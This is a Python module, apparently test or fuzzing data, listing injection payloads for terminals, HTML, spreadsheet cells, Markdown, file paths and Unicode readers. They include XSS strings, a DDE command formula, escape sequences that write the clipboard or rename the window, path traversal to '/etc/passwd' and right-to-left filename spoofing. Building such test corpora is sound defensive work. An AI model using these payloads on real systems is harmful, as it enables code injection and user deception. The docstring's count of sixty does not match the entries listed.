"""Sixty texts that try to be more than text: for terminals, browsers, spreadsheets, Markdown, file systems, readers."""

from __future__ import annotations

TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b[31mred", "\x1b]0;owned\x07", "\x1b]2;owned\x1b\\", "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\x1b]52;c;ZWNobyBvd25lZA==\x07", "\x1b[?1049h", "\x1b[?25l", "\x1b[6n", "\x1bP+q544e\x1b\\", "\x1b[8m hidden", "\x1bc",
    "\x9b31m", "\x9d0;owned\x9c", "\x1b[1000;1Hx", "a\rb", "a\b\b\b", "a\x00b", "\x07\x07", "\x0e\x0f", "\x1b[5i", "\x1b#8",
)  # fmt: skip
HTML = (
    "<script>ran(1)</script>", "<img src=x onerror=ran(1)>", "\"><svg onload=ran(1)>", "'><script>ran(1)</script>",
    "<iframe src=javascript:ran(1)></iframe>", "<a href=javascript:ran(1)>x</a>", "javascript:ran(1)", "</script><script>ran(1)</script>",
    "</style><script>ran(1)</script>", "<!--<script>--><script>ran(1)</script>", "<details open ontoggle=ran(1)>", "<body onload=ran(1)>",
    "<math><mi xlink:href=javascript:ran(1)>", "\" autofocus onfocus=ran(1) x=\"", "<meta http-equiv=refresh content='0;url=data:text/html,x'>",
    "<link rel=stylesheet href=http://127.0.0.1:9/x.css>", "<base href=http://127.0.0.1:9/>", "<form action=http://127.0.0.1:9/><input autofocus onfocus=ran(1)>",
    "&lt;script&gt;ran(1)&lt;/script&gt;", "]]><script>ran(1)</script>", "${ran(1)}", "{{constructor.constructor('ran(1)')()}}", "\u2028ran(1)\u2029",
    "<style>@import 'http://127.0.0.1:9/x.css'</style>", "</title></textarea><script>ran(1)</script>",
)  # fmt: skip
CELLS = ('=HYPERLINK("http://evil.example")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "＝1+1", '"=1"')
MARKDOWN = (
    "[x](javascript:ran(1))", "![x](http://127.0.0.1:9/x.png)", "[x]: javascript:ran(1)", "<http://evil.example>", "`x` **b** # h",
    "\n# heading\n- item", "| a | b |\n|---|---|",
)  # fmt: skip
NAMES = ("../../../../tmp/owned", "..\\..\\owned", "/etc/passwd", "C:\\Windows\\owned", "nul", "a/../../b", "~/owned")
READERS = ("\u202egpj.exe", "\u2066x\u2069", "a\u200bb", "\ufeffx", "\U000e0041\U000e0042", "\u3164x", "ран\u0430")

PAYLOADS = (*TERMINAL, *HTML, *CELLS, *MARKDOWN, *NAMES, *READERS)
